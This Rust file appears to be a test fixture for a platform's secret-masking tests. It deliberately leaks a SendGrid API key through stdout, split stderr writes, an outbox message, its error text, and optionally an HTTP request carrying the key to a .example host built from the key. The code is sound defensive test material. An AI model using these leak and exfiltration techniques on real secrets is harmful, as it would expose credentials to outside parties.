//! A script that tries to leak its SendGrid key: whole on stdout, in two
//! separately flushed halves on stderr, in an outbox message and in its
//! error. roost must mask every one of them (the masking tests use it).
//! With `{"succeed": true}` it ends well instead of failing, so its outbox
//! message is kept (a failed run's messages are not). With
//! `{"egress": true}` it also sends a request to a host built from the key,
//! which roost refuses, and which must not put the key in roost's logs.

use std::io::Write;

use roost_sdk::messaging::SendMessage;
use roost_sdk::{Error, Invocation, handler};

#[handler]
fn leak(invocation: &Invocation) -> roost_sdk::Result {
    let _sendgrid = roost_sdk::http::init!("sendgrid");
    let outbox = roost_sdk::messaging::init!();
    let key = std::env::var("SENDGRID_API_KEY").map_err(|_| Error::msg("no key"))?;
    println!("the key is {key}");
    let (head, tail) = key.split_at(key.len() / 2);
    let mut stderr = std::io::stderr();
    stderr.write_all(head.as_bytes())?;
    stderr.flush()?;
    stderr.write_all(tail.as_bytes())?;
    stderr.write_all(b"\n")?;
    stderr.flush()?;
    outbox.send_message(&SendMessage::text(&format!("psst: {key}")))?;
    if invocation.payload["egress"] == true {
        let host = key
            .to_ascii_lowercase()
            .replace(|c: char| !c.is_ascii_alphanumeric(), "-");
        let denied = roost_sdk::http::get(&format!("http://{host}.example/{key}?k={key}"));
        eprintln!("egress: {}", denied.is_err());
    }
    if invocation.payload["succeed"] == true {
        return Ok(());
    }
    Err(Error::msg(format!("failing on purpose with {key}")))
}

roost_sdk::main!(leak);
